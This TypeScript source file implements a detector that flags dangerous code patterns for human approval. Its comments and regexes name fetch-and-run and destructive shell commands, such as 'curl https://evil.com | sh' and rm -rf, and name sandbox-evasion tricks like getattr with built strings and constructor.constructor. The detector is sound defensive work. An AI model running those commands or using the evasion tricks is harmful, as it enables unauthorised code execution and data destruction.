import { clipMatched, deepFreeze } from './policy-rule.js';
import { unfold, type Change, type Unfolded } from './unfold.js';

/**
 * Dangerous code patterns: code containing any of them is CRITICAL (reference design,
 * "Dangerous Code Pattern Detection").
 *
 * Stance: this is a tripwire for a person's attention, not a sandbox. It is searched over
 * the whole program text (strings and comments included, any language), case-insensitively,
 * and it prefers false positives: `model.eval()`, `regex.exec(s)`, or a comment mentioning
 * `subprocess` all make a program CRITICAL. Names are matched as whole words, so an
 * identifier that merely contains one (`subprocess_count`, `my_eval`, `execution_time`)
 * does not, because the module or builtin can only be reached through its exact name.
 *
 * The simplest disguises are undone before a second search (see unfold.ts): look-alike Unicode
 * (NFKC, as Python reads identifiers), string literals glued together (`'sys'+'tem'`,
 * `` `child_${'process'}` ``), character escapes; and a third search follows aliases of the os
 * module (`import os as o; o.system(...)`). What a program computes at run time (`chr(115)`,
 * a reversed string, a name read from a file) stays out of reach of any pattern list: gVisor is
 * the boundary, this is not. An approver is told what was found and how it was disguised.
 *
 * Performance: programs may be 1 MiB, so every regex is linear: no nested quantifiers, and
 * patterns with two parts ("curl ... | sh", "rm ... -r ... -f") are not one regex with a
 * `.*` gap (which backtracks quadratically over a long line full of `curl`) but a `regex`
 * followed by `followedBy` regexes searched once in the rest of the same command. Unfolding is
 * one pass per layer, and each of the three searches runs every pattern once.
 */
export interface DangerousPattern {
  /** Stable name, for logs and tests. Several entries may share one name. */
  readonly name: string;
  /** Where the pattern starts. Searched case-insensitively anywhere in the code. */
  readonly regex: RegExp;
  /** Regexes that must all be found (in any order) after `regex`, within the same command. */
  readonly followedBy?: readonly RegExp[];
  /** Ends the command `followedBy` searches. Default: a line break. */
  readonly until?: RegExp;
  /** Searched as written (`Function(`, not `function(`). Default: case-insensitively. */
  readonly caseSensitive?: boolean;
  /** How the pattern reaches what it finds, for approvers: `through getattr`. */
  readonly how?: string;
  /** What the pattern found, in plain words, from the (unfolded) matched text: `os.system`. */
  readonly label?: (matched: string) => string;
}

export interface DangerousMatch {
  name: string;
  /**
   * The matched text, trimmed, at most 200 characters. For a disguised spelling, what was found,
   * how, and the program's own text: `os.system (through getattr with a built string): getattr(os, 'sys'+'tem'`.
   */
  matched: string;
}

/** Shells and interpreters that run what is piped into them. */
const INTERPRETER = String.raw`(?:/(?:usr/)?(?:local/)?bin/)?(?:env\s+)?(?:(?:ba|da|z|k|c|tc|fi|a)?sh|python[\d.]{0,5}|node|perl|ruby|php)\b`;

/** Modules whose functions run another program (posix and nt are what os wraps). */
const OS_MODULE = String.raw`(?:os|posix|nt)`;

/** Their functions that run another program. */
const OS_RUNNER_NAMES = String.raw`system|popen[234]?|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?`;
const OS_RUNNERS = `(?:${OS_RUNNER_NAMES})`;

/** A pipe into an interpreter: `| sh`, `| sudo bash`, `| python3`. */
const PIPE_INTERPRETER = new RegExp(String.raw`\|\s*(?:sudo\s+(?:-\w+\s+)?)?` + INTERPRETER);

/** Names whose lookup by string (getattr, `obj['…']`) reaches a program runner or an evaluator. */
const DANGEROUS_NAMES = `(?:eval|exec|execfile|__import__|import_module|${OS_RUNNER_NAMES}|execSync|execFile|execFileSync|spawnSync)`;

/** `getattr(os, 'system'` is os.system. */
function attributeLabel(matched: string): string {
  const m = /getattr\s*\(\s*([^,]*?)\s*,\s*[rbuf]{0,2}['"](\w+)/i.exec(matched);
  return m ? `${m[1]}.${m[2]}` : matched;
}

/** `['eval']` is eval. */
function quotedName(matched: string): string {
  return /['"`](\w+)/.exec(matched)?.[1] ?? matched;
}

/** A line break that ends a shell command: not continued with a backslash, not right after a pipe. */
const COMMAND_LINE_END = /(?<![\\|][ \t]*)\n/;

/** Ends an `rm` command: a new line or a shell/Python separator. */
const RM_COMMAND_END = /[\n;&|)`]/;

export const DANGEROUS_PATTERNS: readonly DangerousPattern[] = deepFreeze([
  {
    // rm -rf, rm -fr, rm -Rf, rm -r -f, rm --recursive --force, ['rm', '-rf', '/'].
    name: 'rm_rf',
    regex: /\brm\b/,
    followedBy: [/[\s'"](?:-[a-z]*r|--recursive\b)/, /[\s'"](?:-[a-z]*f|--force\b)/],
    until: RM_COMMAND_END,
  },
  {
    // curl https://evil.com | sh (also | bash, | sudo bash, | python3, continued lines).
    name: 'curl_pipe_shell',
    regex: /\bcurl\b/,
    followedBy: [PIPE_INTERPRETER],
    until: COMMAND_LINE_END,
  },
  {
    name: 'wget_pipe_shell',
    regex: /\bwget\b/,
    followedBy: [PIPE_INTERPRETER],
    until: COMMAND_LINE_END,
  },
  {
    // echo … | base64 -d | bash: a program hidden in base64, run by the shell it is piped into.
    name: 'base64_pipe_shell',
    regex: /\bbase64\b/,
    // Up to the option's first d, no further: `-[a-z]*d[a-z]*` would backtrack quadratically.
    followedBy: [/\s(?:-[a-ce-z]*d|--decode\b)/, PIPE_INTERPRETER],
    until: COMMAND_LINE_END,
  },
  {
    // bash <(curl ...), sh -c "$(wget -qO- ...)": the same download-and-run without a pipe.
    name: 'shell_download_substitution',
    regex: /\b(?:(?:ba|da|z|k)?sh|source)\s+(?:-c\s+)?(?:["']\s*)?(?:<\s*\(|\$\(|`)\s*(?:curl|wget)\b/,
  },
  {
    // python -c "$(echo … | base64 -d)", bash -c "$(cat payload)": a program made by a command.
    name: 'interpreter_substitution',
    regex:
      /\b(?:(?:ba|da|z|k)?sh|python[\d.]{0,5}|node|perl|ruby|php)\s+(?:-[a-z]{1,10}\s+){0,3}-[ce]\s*["']?\s*(?:\$\(|`)/,
  },
  { name: 'eval_call', regex: /\beval\s*(?:\?\.\s*)?\(/ },
  { name: 'exec_call', regex: /\bexec\s*(?:\?\.\s*)?\(/ },
  { name: 'dunder_import', regex: /__import__/ },
  { name: 'builtins_access', regex: /__builtins__/ },
  { name: 'subprocess', regex: /\bsubprocess\b/ },
  {
    name: 'os_system',
    regex: new RegExp(String.raw`\b` + OS_MODULE + String.raw`\s*\.\s*` + OS_RUNNERS + String.raw`\b`),
  },
  {
    // getattr(os, 'system'), getattr(os,"popen"), and getattr(os, name) with a computed name.
    name: 'os_system',
    regex: new RegExp(
      String.raw`\bgetattr\s*\(\s*` +
        OS_MODULE +
        String.raw`\s*,\s*(?:[rbuf]{0,2}['"]` +
        OS_RUNNERS +
        String.raw`['"]|[^\s'"])`,
    ),
    how: 'through getattr',
    label: attributeLabel,
  },
  {
    // vars(os)['system'], os.__dict__['system']: the module's namespace, searched by name.
    name: 'os_system',
    regex: new RegExp(
      String.raw`\b(?:vars\s*\(\s*` + OS_MODULE + String.raw`\s*\)|` + OS_MODULE + String.raw`\s*\.\s*__dict__)`,
    ),
  },
  {
    // getattr(builtins, 'eval'), getattr(o, 'system'), getattr(cp, 'execSync'): whatever the object.
    name: 'getattr_dangerous_name',
    regex: new RegExp(String.raw`\bgetattr\s*\([^,()\n]{1,100},\s*[rbuf]{0,2}['"]` + DANGEROUS_NAMES + `['"]`),
    how: 'through getattr',
    label: attributeLabel,
  },
  {
    // globalThis['eval'], builtins.__dict__['exec'], cp["spawnSync"]: a lookup by name.
    name: 'name_lookup',
    regex: new RegExp(String.raw`\[\s*[rbuf]{0,2}['"\x60]` + DANGEROUS_NAMES + String.raw`['"\x60]\s*\]`),
    how: 'through a lookup by name',
    label: quotedName,
  },
  {
    // sys.modules['os']: the module without importing it by name.
    name: 'sys_modules',
    regex: /\bmodules\s*\[\s*[rbuf]{0,2}['"](?:os|posix|nt|subprocess|builtins|importlib)['"]/,
    label: (matched) => `sys.modules['${quotedName(matched)}']`,
  },
  {
    // from os import system / from os import (path, popen)
    name: 'os_system',
    regex: new RegExp(String.raw`\bfrom\s+` + OS_MODULE + String.raw`\s+import\b`),
    followedBy: [new RegExp(String.raw`\b` + OS_RUNNERS + String.raw`\b`)],
    until: /[\n;]/,
  },
  {
    name: 'os_system',
    regex: new RegExp(String.raw`\bfrom\s+` + OS_MODULE + String.raw`\s+import\s*\(`),
    followedBy: [new RegExp(String.raw`\b` + OS_RUNNERS + String.raw`\b`)],
    until: /\)/,
  },
  { name: 'importlib', regex: /\bimportlib\b/ },
  // __loader__.load_module('os'): importing without import, __import__ or importlib.
  { name: 'module_loader', regex: /\b__loader__\b|\bload_module\s*\(/ },
  // require('child_process'), require("node:child_process"), import { exec } from 'child_process'.
  { name: 'child_process', regex: /\bchild_process\b/ },
  { name: 'new_function', regex: /\bnew\s+Function\s*\(/ },
  // Function('return process')() needs no `new`; written as it is, so `function (x)` is not it.
  { name: 'function_constructor', regex: /\bFunction\s*\(/, caseSensitive: true },
  // [].constructor.constructor('return process')(): the Function constructor without its name.
  { name: 'function_constructor', regex: /\bconstructor\s*\.\s*constructor\b/ },
  // process.binding('spawn_sync'): node's internals, child_process without its name.
  { name: 'process_binding', regex: /\bprocess\s*\.\s*(?:binding|_linkedBinding)\s*\(/ },
  // process.mainModule.require: require where a module was not given it.
  { name: 'main_module', regex: /\bprocess\s*\.\s*mainModule\b/ },
  {
    // Shell `eval "$cmd"`: the word eval, blanks, then an argument (not `eval = 1`, `eval: bool`).
    name: 'shell_eval',
    regex: /\beval[ \t]+[^\s=:,)\]}]/,
  },
] satisfies DangerousPattern[]);

/**
 * The dangerous pattern that starts earliest in the code (on a tie, the first in
 * DANGEROUS_PATTERNS), or null. Earliest, so an approver sees the first dangerous thing
 * the program does, whatever order the list is in. Searched in the program as written first,
 * then with its disguises undone (see unfold.ts), then for aliases of the os module.
 */
export function findDangerousPattern(code: string): DangerousMatch | null {
  const plain = earliest(code);
  if (plain !== null) return { name: plain.pattern.name, matched: clipMatched(plain.text) };
  const unfolded = unfold(code);
  if (unfolded.changed) {
    const found = earliest(unfolded.text);
    if (found !== null) return disguised(found.pattern.name, found, unfolded, code, found.pattern);
  }
  return findOsAlias(unfolded, code);
}

interface Found {
  pattern: DangerousPattern;
  index: number;
  text: string;
}

function earliest(code: string): Found | null {
  let best: Found | null = null;
  for (const pattern of DANGEROUS_PATTERNS) {
    const found = matchPattern(pattern, code);
    if (found !== null && (best === null || found.index < best.index)) best = { pattern, ...found };
  }
  return best;
}

const CHANGE_WORDS: Record<Change, string> = {
  concatenation: 'a built string',
  escape: 'escaped characters',
  unicode: 'look-alike Unicode characters',
};

/**
 * A match in the unfolded text, told as what it is, how it was reached and disguised, and the
 * program's own text: `os.system (through getattr with a built string): getattr(os, 'sys'+'tem'`.
 */
function disguised(
  name: string,
  found: { index: number; text: string },
  unfolded: Unfolded,
  code: string,
  wording: { how?: string | undefined; label?: ((matched: string) => string) | undefined },
): DangerousMatch {
  const { from, to, changes } = unfolded.source(found.index, found.index + found.text.length);
  const original = code.slice(from, to).trim();
  if (changes.size === 0 && wording.how === undefined) return { name, matched: clipMatched(original) };
  const what = wording.label ? wording.label(found.text) : found.text.trim().replace(/[\s(]+$/, '');
  const disguises = [...changes].map((change) => CHANGE_WORDS[change]).join(' and ');
  const how = [wording.how, disguises && `with ${disguises}`].filter(Boolean).join(' ');
  return { name, matched: clipMatched(`${what} (${how}): ${original}`) };
}

/** `import os as o`, `o = os`: names the os module (or posix, nt) goes by. */
const OS_ALIAS = new RegExp(
  String.raw`\b(` +
    OS_MODULE +
    String.raw`)\s+as\s+([a-z_]\w*)|\b([a-z_]\w*)[ \t]*=[ \t]*(` +
    OS_MODULE +
    String.raw`)[ \t]*(?=[\n;#]|$)`,
);

/** Aliases remembered at most: a program with more is hiding something else too. */
const MAX_ALIASES = 64;

/** A runner called on some name: `o.system`, checked against the aliases. */
const RUNNER_CALL = new RegExp(String.raw`\b([a-z_]\w*)\s*\.\s*(` + OS_RUNNERS + String.raw`)\b`);

/** `import os as o; o.system('id')`: the os module's runners called through an alias. */
function findOsAlias(unfolded: Unfolded, code: string): DangerousMatch | null {
  const text = unfolded.text;
  const aliases = new Map<string, string>();
  const definitions = searcher(OS_ALIAS);
  let m: RegExpExecArray | null;
  while (aliases.size < MAX_ALIASES && (m = definitions.exec(text)) !== null) {
    const [alias, module] = m[2] !== undefined ? [m[2], m[1]] : [m[3], m[4]];
    if (alias !== undefined && module !== undefined && !/^(?:os|posix|nt)$/i.test(alias)) aliases.set(alias, module);
  }
  if (aliases.size === 0) return null;
  const calls = searcher(RUNNER_CALL);
  while ((m = calls.exec(text)) !== null) {
    const [call, alias = '', runner = ''] = m;
    const module = aliases.get(alias);
    if (module === undefined) continue;
    return disguised('os_system', { index: m.index, text: call }, unfolded, code, {
      how: `through the alias ${alias}`,
      label: () => `${module}.${runner}`,
    });
  }
  return null;
}

/** Fresh global copies (case-insensitive unless told): the shared RegExp objects are never stateful. */
function searcher(regex: RegExp, caseSensitive = false): RegExp {
  return new RegExp(regex.source, caseSensitive ? 'g' : 'gi');
}

/** The rest of a word after a match (`-rf` + `v`), so the matched text shows whole flags. */
const WORD_REST = /[\w-]*/y;

function matchPattern(pattern: DangerousPattern, code: string): { index: number; text: string } | null {
  const head = searcher(pattern.regex, pattern.caseSensitive);
  if (!pattern.followedBy || pattern.followedBy.length === 0) {
    const m = head.exec(code);
    return m ? { index: m.index, text: m[0] } : null;
  }
  const tails = pattern.followedBy.map((tail) => searcher(tail, pattern.caseSensitive));
  const until = searcher(pattern.until ?? /\n/);
  let m: RegExpExecArray | null;
  while ((m = head.exec(code)) !== null) {
    const start = m.index;
    const from = start + m[0].length;
    until.lastIndex = from;
    const stop = until.exec(code);
    const end = stop ? stop.index : code.length;
    const rest = code.slice(from, end);
    let last = -1;
    for (const tail of tails) {
      tail.lastIndex = 0;
      const t = tail.exec(rest);
      if (!t) {
        last = -1;
        break;
      }
      last = Math.max(last, t.index + t[0].length);
    }
    if (last >= 0) {
      WORD_REST.lastIndex = last;
      WORD_REST.exec(rest);
      return { index: start, text: code.slice(start, from + WORD_REST.lastIndex) };
    }
    // Any later start inside this command sees only a suffix of it, so it cannot match
    // either: skip to the command's end, which keeps the whole search linear.
    head.lastIndex = Math.max(end, from);
  }
  return null;
}
